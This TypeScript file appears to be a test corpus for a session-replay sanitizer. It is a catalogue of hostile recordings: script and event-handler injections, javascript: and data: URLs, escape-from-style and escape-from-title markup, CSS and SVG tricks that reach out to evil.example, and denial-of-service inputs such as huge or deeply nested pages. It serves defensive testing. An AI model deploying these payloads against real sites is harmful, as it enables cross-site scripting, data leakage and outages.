// The hostile corpus, which tests replay: recordings as an attacker would send them, each with one way to run code, to ask another host, or to cost too much.

/** Stands for the other host; a test puts its address in. */
export const EVIL = 'http://evil.example'
/** What every script of the corpus tries. */
export const PAYLOAD = `try{top.canary=1}catch(e){};try{parent.canary=1}catch(e){};window.canary=1;console.error('canary');alert('canary');fetch('${EVIL}/script')`

type Attributes = Record<string, unknown>
export type HostileNode = { type: number; id?: number; [field: string]: unknown }
export type HostileCase = { name: string; events: unknown[]; bound?: true }

export const HEAD = 4
export const BODY = 5
const START = 1_790_000_000_000

const text = (value: string, more: object = {}): HostileNode => ({ type: 3, textContent: value, ...more })
const el = (tagName: string, attributes: Attributes = {}, ...children: (HostileNode | string)[]): HostileNode => ({
  type: 2, tagName, attributes, childNodes: children.map((child) => (typeof child === 'string' ? text(child) : child)),
})
const svg = (tagName: string, attributes: Attributes = {}, ...children: (HostileNode | string)[]): HostileNode => ({ ...el(tagName, attributes, ...children), isSVG: true })
const drawing = (...children: HostileNode[]) => svg('svg', { width: '100', height: '100' }, ...children)
const style = (css: string) => el('style', {}, text(css, { isStyle: true }))

/** Gives every node without an id its own. */
function numbered(root: HostileNode): HostileNode {
  let next = 100
  const stack = [root]
  for (let node = stack.pop(); node; node = stack.pop()) {
    node.id ??= next++
    for (const child of (node.childNodes as HostileNode[] | undefined) ?? []) stack.push(child)
  }
  return root
}

export function snapshot(body: HostileNode[], head: HostileNode[] = []): HostileNode {
  const html = { ...el('html', {}, { ...el('head', {}, ...head), id: HEAD }, { ...el('body'), childNodes: body, id: BODY }), id: 3 }
  return numbered({ type: 0, id: 1, childNodes: [{ type: 1, id: 2, name: 'html', publicId: '', systemId: '' }, html] })
}

/** A recording of one page, then one event every 20 ms. */
export function recording(body: HostileNode[], head: HostileNode[] = [], after: object[] = [], size = { width: 800, height: 600 }): unknown[] {
  const all = [
    { type: 4, data: { href: 'https://shop.example/', ...size } },
    { type: 2, data: { node: snapshot([...body, el('p', {}, 'the page')], head), initialOffset: { left: 0, top: 0 } } },
    ...after.map((data) => ({ type: 3, data })),
    { type: 3, data: { source: 3, id: 1, x: 0, y: 0 } },
  ]
  return all.map((event, index) => ({ ...event, timestamp: START + index * 20 }))
}

const mutation = (change: object) => ({ source: 0, adds: [], removes: [], texts: [], attributes: [], ...change })
const add = (node: HostileNode, parentId = BODY) => mutation({ adds: [{ parentId, nextId: null, node: { id: 900, ...node, childNodes: [] } }] })
const set = (id: number, attributes: Attributes) => mutation({ attributes: [{ id, attributes }] })
const body = (name: string, ...nodes: HostileNode[]): HostileCase => ({ name, events: recording(nodes) })
const head = (name: string, ...nodes: HostileNode[]): HostileCase => ({ name, events: recording([], nodes) })
const later = (name: string, first: HostileNode[], ...after: object[]): HostileCase => ({ name, events: recording(first, [], after) })
const data = (type: string, content: string) => `data:${type},${encodeURIComponent(content)}`
const JS = `javascript:${PAYLOAD}`
const PAGE = `<script>${PAYLOAD}</script><img src="${EVIL}/page">`

function nested(depth: number): HostileNode {
  let node = el('div')
  for (let level = 0; level < depth; level++) node = el('div', {}, node)
  return node
}

const DRAWN_SCRIPT = data('image/svg+xml', `<svg xmlns="http://www.w3.org/2000/svg" onload="${PAYLOAD}"><script>${PAYLOAD}</script><image href="${EVIL}/inner"/></svg>`)

export const HOSTILE: HostileCase[] = [
  // Scripts
  body('a script with text', el('script', {}, PAYLOAD)),
  body('a script of another host', el('script', { src: `${EVIL}/script.js` })),
  body('a module of another host', el('script', { type: 'module', src: `${EVIL}/module.js` })),
  body('a script in capitals', el('SCRIPT', {}, PAYLOAD)),
  body('a script with a prefix', svg('svg:script', {}, PAYLOAD)),
  body('a script from data', el('script', { src: data('text/javascript', PAYLOAD) })),
  head('import map and speculation rules', el('script', { type: 'importmap' }, `{"imports":{"a":"${EVIL}/a"}}`), el('script', { type: 'speculationrules' }, `{"prefetch":[{"source":"list","urls":["${EVIL}/speculation"]}]}`)),
  // Handlers
  body('handlers of loading and failing', el('img', { src: 'x', onerror: PAYLOAD }), el('body', { onload: PAYLOAD }), el('input', { onfocus: PAYLOAD, autofocus: true }), el('details', { open: true, ontoggle: PAYLOAD }, 'x')),
  body('handlers in capitals and with odd names', el('img', { src: 'x', ONERROR: PAYLOAD, OnLoad: PAYLOAD, ' onerror': PAYLOAD, 'on-error': PAYLOAD, '/onerror': PAYLOAD })),
  body('handlers of animation and scroll', style('@keyframes a{to{opacity:1}}'), el('div', { style: 'animation:a 1ms', onanimationstart: PAYLOAD, onanimationend: PAYLOAD, onscrollend: PAYLOAD, onbeforematch: PAYLOAD }, 'x')),
  body('a dialog and a popover', el('dialog', { open: true, rr_open_mode: 'modal', ontoggle: PAYLOAD, oncancel: PAYLOAD }, 'x'), el('div', { popover: 'auto', id: 'pop', onbeforetoggle: PAYLOAD }, 'x'), el('button', { popovertarget: 'pop', autofocus: true, onfocus: PAYLOAD }, 'x')),
  body('a custom element', { ...el('x-evil', { onclick: PAYLOAD, is: 'x-evil' }), isCustom: true }, { ...el('div', {}), isCustom: true }, { ...el('annotation-xml', {}), isCustom: true }),
  // Addresses
  body('javascript addresses', el('a', { href: JS, autofocus: true }, 'x'), el('form', { action: JS }, el('button', { formaction: JS }, 'x')), el('area', { href: JS }), el('iframe', { src: JS })),
  body('javascript addresses with blanks and entities', el('a', { href: `java\nscript:${PAYLOAD}` }, 'x'), el('a', { href: `\u0001javascript:${PAYLOAD}` }, 'x'), el('iframe', { src: `JaVaScRiPt\t:${PAYLOAD}` }), el('a', { href: `&#106;avascript:${PAYLOAD}` }, 'x')),
  body('pages from data', el('a', { href: data('text/html', PAGE) }, 'x'), el('iframe', { src: data('text/html', PAGE) }), el('embed', { src: data('text/html', PAGE) }), el('object', { data: data('text/html', PAGE) })),
  body('links that report and prefetch', el('a', { href: `${EVIL}/link`, ping: `${EVIL}/ping`, attributionsrc: `${EVIL}/attribution` }, 'x'), el('img', { attributionsrc: `${EVIL}/attribution` })),
  body('a form that is sent', el('form', { action: `${EVIL}/form`, id: 'f' }, el('input', { type: 'image', src: `${EVIL}/button` }), el('input', { type: 'submit', formaction: `${EVIL}/submit` }))),
  // Frames and plug-ins
  body('frames', el('iframe', { srcdoc: PAGE }), el('iframe', { src: `${EVIL}/frame` }), el('iframe', { rr_src: `${EVIL}/frame` }), el('frameset', {}, el('frame', { src: `${EVIL}/frame` })), el('portal', { src: `${EVIL}/portal` }), el('fencedframe', { src: `${EVIL}/fenced` })),
  body('a frame with rights', el('iframe', { sandbox: 'allow-scripts allow-same-origin allow-top-navigation', allow: '*', srcdoc: PAGE, name: 'x' })),
  body('plug-ins', el('object', { data: `${EVIL}/object` }, el('param', { name: 'movie', value: `${EVIL}/movie` })), el('embed', { src: `${EVIL}/embed` }), el('applet', { code: 'x', codebase: EVIL })),
  later('a document inside a frame', [{ ...el('iframe'), id: 50 }], mutation({ isAttachIframe: true, adds: [{ parentId: 50, nextId: null, node: numbered({ type: 0, id: 700, childNodes: [el('html', {}, el('head', {}, el('meta', { 'http-equiv': 'refresh', content: `0;url=${EVIL}/refresh` })), el('body', {}, el('script', {}, PAYLOAD), el('img', { src: `${EVIL}/inside`, onerror: PAYLOAD })))] }) }] })),
  // The head
  head('meta that leaves or loosens', el('meta', { 'http-equiv': 'refresh', content: `0;url=${EVIL}/refresh` }), el('meta', { 'http-equiv': 'Content-Security-Policy', content: "default-src *" }), el('meta', { 'http-equiv': 'set-cookie', content: 'a=b' }), el('META', { 'HTTP-EQUIV': 'Refresh', content: `0;url=${JS}` })),
  head('a base', el('base', { href: EVIL, target: '_top' }), el('script', { src: '/relative.js' })),
  head('hints', ...['preload', 'prefetch', 'preconnect', 'dns-prefetch', 'prerender', 'modulepreload', 'icon', 'manifest', 'apple-touch-icon', 'expect', 'pingback'].map((rel) => el('link', { rel, href: `${EVIL}/${rel}`, as: 'image' }))),
  head('style sheets of another host', el('link', { rel: 'stylesheet', href: `${EVIL}/sheet.css` }), el('link', { rel: 'STYLESHEET', href: `${EVIL}/sheet2.css`, onload: PAYLOAD }), el('link', { rel: 'stylesheet prefetch', href: `${EVIL}/sheet3.css`, _cssText: `a{background:url(${EVIL}/inlined)}` }), el('link', { rel: 'preload', href: `${EVIL}/x`, _cssText: 'a{}' })),
  head('a title that breaks out', el('title', {}, `</title><script>${PAYLOAD}</script>`)),
  // Styles
  head('imports', style(`@import "${EVIL}/i1.css";@import url(${EVIL}/i2.css);@IMPORT url("${EVIL}/i3.css") screen;@\\69mport "${EVIL}/i4.css";@im/**/port "${EVIL}/i5.css";`)),
  head('addresses in styles', style(`body{background:url(${EVIL}/b1)}p{background:URL( "${EVIL}/b2" );cursor:url('${EVIL}/c'),auto;list-style:url(//evil.example/l)}p::before{content:url(${EVIL}/ct)}div{border-image:url(${EVIL}/bi);mask:url(${EVIL}/m);filter:url(${EVIL}/f#a);shape-outside:url(${EVIL}/s)}`)),
  head('addresses in styles, escaped', style(`body{background:\\75rl(${EVIL}/e1)}p{background:u\\72 l("${EVIL}/e2")}div{background:url(\\68ttp://evil.example/e3)}html{background:url(/**/"${EVIL}/e4")}`)),
  head('image sets', style(`body{background:image-set("${EVIL}/s1" 1x)}p{background:-webkit-image-set(url(${EVIL}/s2) 1x)}div{background:image("${EVIL}/s3")}html{background:cross-fade(url(${EVIL}/s4),url(${EVIL}/s5))}`)),
  head('variables and registered properties', style(`:root{--a:url(${EVIL}/v1);--b:"${EVIL}/v2"}body{background:var(--a)}p{background:image-set(var(--b) 1x)}@property --x{syntax:"<image>";inherits:true;initial-value:url(${EVIL}/v3)}`)),
  head('fonts', style(`@font-face{font-family:evil;src:url(${EVIL}/font.woff2)}@font-face{font-family:evil;src:local(x),src("${EVIL}/font2")}body{font-family:evil}`)),
  head('a style that breaks out', style(`</style><script>${PAYLOAD}</script>`), el('style', { _cssText: `</style><img src=x onerror="${PAYLOAD}">` })),
  head('an unclosed style', style(`body{background:url(${EVIL}/open`), style(`/* body{} `), style(`a{content:"`), style(`@import "${EVIL}/unclosed`)),
  head('styles in parts', el('style', { _cssText: `body{background:ur/* rr_split */l(${EVIL}/split)}` }, text('', { isStyle: true }), text('', { isStyle: true }))),
  head('two texts that are one style', el('style', {}, text('@imp', { isStyle: true }), text(`ort "${EVIL}/joined.css";body{background:u`, {}), text(`rl(${EVIL}/joined)}`, {}))),
  body('styles of elements', el('div', { style: `background:url(${EVIL}/d1)` }, 'x'), el('div', { style: `background-image:u\\72l(${EVIL}/d2);cursor:url(${EVIL}/d3),auto` }, 'x'), el('div', { STYLE: `background:url(${EVIL}/d4)` }, 'x'), el('table', { background: `${EVIL}/table` }, el('td', { background: `${EVIL}/td` })), el('body', { background: `${EVIL}/body` })),
  // Images and media
  body('images', el('img', { src: `${EVIL}/i1`, width: '40', height: '30' }), el('img', { srcset: `${EVIL}/i2 1x, ${EVIL}/i3 2x` }), el('picture', {}, el('source', { srcset: `${EVIL}/i4` }), el('img', { src: '//evil.example/i5' })), el('img', { lowsrc: `${EVIL}/i6`, dynsrc: `${EVIL}/i7` }), el('image', { src: `${EVIL}/i8` }), el('input', { type: 'image', src: `${EVIL}/i9` }), el('img', { rr_dataURL: `${EVIL}/i10` }), el('canvas', { rr_dataURL: `${EVIL}/i11` }), el('img', { src: `http:${EVIL.slice(5)}/i12`, loading: 'lazy' })),
  body('media', el('video', { src: `${EVIL}/v1`, poster: `${EVIL}/p1`, autoplay: true, rr_mediaState: 'played' }), el('video', {}, el('source', { src: `${EVIL}/v2` }), el('track', { src: `${EVIL}/t1`, default: true, kind: 'subtitles' })), el('audio', { src: `${EVIL}/a1`, autoplay: true, preload: 'auto', rr_mediaState: 'played' }), el('bgsound', { src: `${EVIL}/b1` })),
  body('an image that is a page', el('img', { src: DRAWN_SCRIPT }), el('object', { data: DRAWN_SCRIPT }), el('iframe', { src: DRAWN_SCRIPT }), el('embed', { src: DRAWN_SCRIPT })),
  // SVG and MathML
  body('SVG scripts', drawing(svg('script', {}, PAYLOAD), svg('script', { href: `${EVIL}/svg.js` }), svg('script', { 'xlink:href': `${EVIL}/svg2.js` })), svg('svg', { onload: PAYLOAD })),
  body('SVG foreign objects', drawing(svg('foreignObject', { width: '10', height: '10' }, el('script', {}, PAYLOAD), el('iframe', { srcdoc: PAGE }), el('img', { src: `${EVIL}/foreign` })))),
  body('SVG animation of addresses', drawing(svg('a', { 'xlink:href': '#' }, svg('animate', { attributeName: 'href', values: JS, begin: '0s', dur: '1s', fill: 'freeze' }), svg('text', { y: '20' }, 'x')), svg('image', {}, svg('set', { attributeName: 'href', to: `${EVIL}/set` })), svg('rect', {}, svg('animate', { attributeName: 'xlink:href', to: `${EVIL}/animate`, onbegin: PAYLOAD, onend: PAYLOAD, dur: '10ms' }), svg('animate', { attributeName: 'fill', from: 'red', to: `url(${EVIL}/paint#a)`, dur: '10ms' })))),
  body('SVG references', drawing(svg('use', { href: `${EVIL}/use.svg#a` }), svg('use', { 'xlink:href': data('image/svg+xml', `<svg xmlns="http://www.w3.org/2000/svg" id="a" onload="${PAYLOAD}"/>`) + '#a' }), svg('image', { href: `${EVIL}/image`, width: '9', height: '9' }), svg('image', { 'xlink:href': `${EVIL}/image2`, width: '9', height: '9' }), svg('feImage', { href: `${EVIL}/fe` }), svg('rect', { fill: `url(${EVIL}/fill#a)`, filter: `url("${EVIL}/filter#a")`, mask: `url(${EVIL}/mask)`, 'clip-path': `url(${EVIL}/clip#c)`, 'marker-start': `url(${EVIL}/marker#m)`, cursor: `url(${EVIL}/cursor), auto`, width: '9', height: '9' }), svg('textPath', { href: `${EVIL}/path#p` }, 'x'), svg('linearGradient', { href: `${EVIL}/gradient#g` }), svg('style', {}, text(`rect{fill:url(${EVIL}/svgstyle#a)}`)))),
  body('SVG links', drawing(svg('a', { 'xlink:href': JS }, svg('text', { y: '20' }, 'x')), svg('a', { href: JS }, svg('text', { y: '20' }, 'x')), svg('discard', { href: JS }), svg('handler', { type: 'text/javascript', 'ev:event': 'load' }, PAYLOAD))),
  body('MathML', el('math', { href: JS, 'xlink:href': JS }, el('mtext', {}, el('mglyph', { src: `${EVIL}/glyph` }), el('style', {}, text(`</style><img src=x onerror=${PAYLOAD}>`))), el('maction', { actiontype: 'statusline#http', 'xlink:href': JS }, 'x'), el('semantics', {}, el('annotation-xml', { encoding: 'text/html' }, el('script', {}, PAYLOAD), el('img', { src: 'x', onerror: PAYLOAD }))))),
  // Templates and shadow roots
  body('templates and shadow roots', el('template', { shadowrootmode: 'open' }, el('script', {}, PAYLOAD), el('img', { src: `${EVIL}/template` })), { ...el('div', {}, { ...el('script', {}, PAYLOAD), isShadow: true }, { ...el('img', { src: `${EVIL}/shadow`, onerror: PAYLOAD }), isShadow: true }, { ...style(`p{background:url(${EVIL}/shadowstyle)}`), isShadow: true }), isShadowHost: true }, { ...el('input', {}), isShadowHost: true }),
  body('noscript', el('noscript', {}, `<img src="${EVIL}/noscript">`), el('noscript', {}, el('img', { src: `${EVIL}/noscript2` }), el('meta', { 'http-equiv': 'refresh', content: `0;url=${EVIL}/refresh` }))),
  body('texts that look like elements', el('div', {}, `<script>${PAYLOAD}</script><img src=x onerror="${PAYLOAD}">`), el('textarea', { value: `</textarea><script>${PAYLOAD}</script>` }), el('xmp', {}, `</xmp><script>${PAYLOAD}</script>`), { type: 5, textContent: `--><script>${PAYLOAD}</script>` }, { type: 4, textContent: `]]><script>${PAYLOAD}</script>` }, el('plaintext', {}, 'x'), el('listing', {}, 'x')),
  body('names that hide what the page has', ...['documentElement', 'head', 'body', 'close', 'open', 'write', 'getElementsByTagName', 'createElement', 'implementation', 'defaultView'].map((name) => el('form', { name, id: name }, el('img', { name }))), el('div', { id: 'canary' })),
  // What comes later
  later('added scripts and images', [], add(el('script', { src: `${EVIL}/added.js` })), add({ ...el('img', { src: `${EVIL}/added`, onerror: PAYLOAD }), id: 901 }), add({ ...el('iframe', { srcdoc: PAGE }), id: 902 }), add({ ...el('link', { rel: 'stylesheet', href: `${EVIL}/added.css` }), id: 903 }, HEAD), add({ ...el('meta', { 'http-equiv': 'refresh', content: `0;url=${EVIL}/added` }), id: 904 }, HEAD), add({ ...el('base', { href: EVIL }), id: 905 }, HEAD)),
  later('added text of a script', [{ ...el('script'), id: 50 }], add(text(PAYLOAD), 50), mutation({ texts: [{ id: 900, value: PAYLOAD }] })),
  later('added text of a style', [{ ...el('style'), id: 50 }], add(text(`@import "${EVIL}/late.css";body{background:url(${EVIL}/late)}`), 50)),
  later('changed text of a style', [{ ...el('style', {}, { ...text('a{}'), id: 51 }), id: 50 }], mutation({ texts: [{ id: 51, value: `body{background:url(${EVIL}/text)}` }] })),
  later('a text moved into a style', [{ ...el('p', {}, { ...text(`body{background:url(${EVIL}/moved)}`), id: 51 }), id: 50 }, { ...el('style'), id: 52 }], mutation({ removes: [{ id: 51, parentId: 50 }], adds: [{ parentId: 52, nextId: null, node: { type: 3, id: 51, textContent: `body{background:url(${EVIL}/moved)}` } }] })),
  later('changed attributes', [{ ...el('img', { src: 'data:image/gif;base64,R0lGODlhAQABAAAAACw=' }), id: 50 }, { ...el('a', { href: '#' }, 'x'), id: 51 }, { ...el('link', { rel: 'stylesheet', _cssText: 'a{}' }), id: 52 }, { ...el('iframe'), id: 53 }, { ...el('video'), id: 54 }], set(50, { src: `${EVIL}/changed`, srcset: `${EVIL}/set 1x`, onerror: PAYLOAD }), set(51, { href: JS, onfocus: PAYLOAD, ping: `${EVIL}/ping` }), set(52, { href: `${EVIL}/changed.css`, _cssText: `@import "${EVIL}/changed2.css";p{background:url(${EVIL}/changed3)}`, rel: 'preload' }), set(53, { srcdoc: PAGE, src: `${EVIL}/frame` }), set(54, { src: `${EVIL}/video`, poster: `${EVIL}/poster` }), set(51, { STYLE: `background:url(${EVIL}/up)` }), set(9999, { src: `${EVIL}/unknown`, href: `${EVIL}/unknown` })),
  later('changed style of an element', [{ ...el('div', {}, 'x'), id: 50 }], set(50, { style: { background: `url(${EVIL}/s1)`, 'background-image': [`url(${EVIL}/s2)`, 'important'], cursor: `u\\72l(${EVIL}/s3), auto`, '--x': `url(${EVIL}/s4)` } }), set(50, { style: `background:url(${EVIL}/s5)` })),
  later('animation aimed later', [drawing(svg('image', { width: '9', height: '9' }, { ...svg('set', { attributeName: 'x', to: `${EVIL}/aimed`, begin: '0s' }), id: 50 }))], set(50, { attributeName: 'href' }), set(50, { 'xlink:href': `${EVIL}/aimed2`, to: JS })),
  later('rules of style sheets', [{ ...el('style', {}, text('a{}', { isStyle: true })), id: 50 }], { source: 8, id: 50, adds: [{ rule: `body{background:url(${EVIL}/r1)}`, index: 0 }, { rule: `@import "${EVIL}/r2.css"`, index: 0 }, { rule: `@font-face{font-family:a;src:url(${EVIL}/r3)}`, index: 0 }] }, { source: 8, id: 50, replace: `p{background:url(${EVIL}/r4)}`, replaceSync: `p{background:url(${EVIL}/r5)}` }, { source: 13, id: 50, index: [0], set: { property: 'background', value: `url(${EVIL}/r6)`, priority: '' } }),
  later('adopted style sheets', [], { source: 15, id: 1, styleIds: [1], styles: [{ styleId: 1, rules: [{ rule: `body{background:url(${EVIL}/adopted)}`, index: 0 }, { rule: `@import "${EVIL}/adopted.css"`, index: 1 }] }] }, { source: 8, styleId: 1, adds: [{ rule: `p{background:url(${EVIL}/adopted2)}` }] }),
  later('a font', [el('p', { style: 'font-family:evil' }, 'x')], { source: 10, family: 'evil', fontSource: `url(${EVIL}/font)`, buffer: false, descriptors: {} }),
  later('a canvas', [{ ...el('canvas', { width: '9', height: '9' }), id: 50 }], { source: 9, id: 50, type: 0, commands: [{ property: 'drawImage', args: [{ rr_type: 'HTMLImageElement', src: `${EVIL}/drawn` }, 0, 0] }, { property: 'constructor', args: [PAYLOAD] }] }),
  later('media that plays', [{ ...el('video', { src: `${EVIL}/media` }), id: 50 }], { source: 7, id: 50, type: 0, currentTime: 1, volume: 1, muted: false }),
  later('a custom element defined', [], { source: 16, define: { name: 'x-late' } }, { source: 16, define: { name: 'not valid' } }),
  later('clicks and focus', [{ ...el('a', { href: `${EVIL}/clicked`, target: '_top' }, 'x'), id: 50 }, { ...el('input', { type: 'submit', form: 'f' }), id: 51 }, el('form', { id: 'f', action: `${EVIL}/sent` })], { source: 2, type: 2, id: 50, x: 1, y: 1 }, { source: 2, type: 5, id: 50 }, { source: 2, type: 2, id: 51, x: 1, y: 1 }, { source: 2, type: 99, id: 51 }),
  { name: 'another page later', events: [...recording([el('p')]), { type: 2, timestamp: START + 900, data: { node: snapshot([el('script', {}, PAYLOAD), el('img', { src: `${EVIL}/second`, onerror: PAYLOAD })], [el('meta', { 'http-equiv': 'refresh', content: `0;url=${EVIL}/r` })]), initialOffset: { left: 0, top: 0 } } }, { type: 3, timestamp: START + 950, data: { source: 3, id: 1, x: 0, y: 0 } }] },
  // Nonsense
  later('values of no type', [], { source: 0 }, { source: 0, adds: [null, 1, { parentId: {}, node: null }], removes: 'x', texts: [{ id: '1', value: {} }], attributes: [{ id: 5, attributes: null }] }, { source: 'x' }, { source: 1, positions: [null, { x: 'a', y: null, id: {}, timeOffset: 'x' }] }, { source: 4, width: 'a', height: {} }, { source: 8, adds: [{ rule: 7, index: 'x' }], removes: [{}] }, { source: 5, id: 5, text: {}, isChecked: 'x' }, { source: 14, ranges: [{}] }, { source: 15, styleIds: 'x', styles: {} }),
  body('names of no element', el('constructor'), el('__proto__'), el(''), el('a b'), el('<img src=x>'), el('div', JSON.parse(`{"__proto__":{"onerror":"1"},"constructor":"x","a b":"x","\\"":"x","=":"x"}`) as Attributes), { ...el('div'), id: 5 }, { ...el('html', {}, el('head')) }, { type: 1, name: '<x>', publicId: '"', systemId: '>' }, { type: 0, childNodes: [el('html')] }, { type: 9 }),
  { name: 'nothing but an empty document', events: recording([]).map((event, index) => (index === 1 ? { type: 2, timestamp: START + 20, data: { node: { type: 0, id: 1, compatMode: 'BackCompat', childNodes: [] }, initialOffset: {} } } : event)) },
  { name: 'times of no sense', events: recording([], [], [add(el('p'))]).map((event, index) => ({ ...(event as object), timestamp: [START, START + 1, Number.NaN, START - 1e12][index] ?? START + 2 })).concat([{ type: 3, timestamp: 1e300, data: { source: 3, id: 1, x: 0, y: 0 } }, { type: 3, timestamp: '9', data: {} }] as never), bound: true },
  // Costs
  { name: 'a huge page', events: recording(Array.from({ length: 210_000 }, () => el('i'))), bound: true },
  { name: 'a deep page', events: recording([nested(1_000)]), bound: true },
  { name: 'a page that deepens', events: recording([], [], Array.from({ length: 1_500 }, (_, level) => mutation({ adds: [{ parentId: level === 0 ? BODY : 10_000 + level - 1, nextId: null, node: { ...el('div'), id: 10_000 + level } }] }))), bound: true },
  { name: 'a page that grows by moving', events: recording([{ ...nested(300), id: 50 }, { ...nested(300), id: 51 }], [], [add({ ...el('div'), id: 50 }, 51), add({ ...el('div'), id: 51 }, 50), add({ ...el('div'), id: BODY }, BODY)]) },
  { name: 'a huge viewport', events: recording([], [], [{ source: 4, width: 1e9, height: 1e9 }], { width: 4e9, height: -7 }), bound: true },
  { name: 'a scroll beyond all', events: recording([], [], [{ source: 3, id: 1, x: 1e308, y: Number.POSITIVE_INFINITY }, { source: 3, id: 5, x: 'a', y: null }]) },
  { name: 'styles nested without end', events: recording([], [style(`${'a{'.repeat(20_000)}background:url(${EVIL}/nested)`), style(`a{width:${'calc('.repeat(20_000)}`), style(`${':is('.repeat(20_000)}a`), style(`${'a{)'.repeat(20_000)}`), el('style', {}, ...Array.from({ length: 500 }, () => text('a{'.repeat(60))))]) },
  body('copies of copies', drawing(svg('g', { id: 'u0' }, svg('circle', { r: '1' })), ...Array.from({ length: 30 }, (_, level) => svg('g', { id: `u${level + 1}` }, ...Array.from({ length: 10 }, () => svg('use', { href: `#u${level}` })))), svg('use', { href: '#u30' }))),
  later('copies of copies, named later', [drawing({ ...svg('g', { id: 'v0' }, svg('circle', { r: '1' })), id: 50 }, ...Array.from({ length: 30 }, (_, level) => ({ ...svg('g', {}, ...Array.from({ length: 10 }, () => svg('use', { href: `#v${level}` }))), id: 51 + level })))], ...Array.from({ length: 30 }, (_, level) => set(51 + level, { id: `v${level + 1}` }))),
]
